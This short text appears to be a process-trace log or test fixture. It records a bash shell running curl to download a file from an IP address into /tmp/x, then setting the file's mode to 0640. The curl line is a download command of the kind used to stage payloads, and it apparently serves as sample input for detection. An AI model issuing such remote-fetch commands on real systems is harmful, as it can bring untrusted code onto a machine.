# Another mode than one to run it.
sh is /bin/bash uid=1000
sh fork curl
curl exec /usr/bin/curl "curl -o /tmp/x http://203.0.113.9/x"
curl write /tmp/x
sh fork chmod
chmod exec /bin/chmod "chmod 640 /tmp/x"
chmod chmod /tmp/x 0640
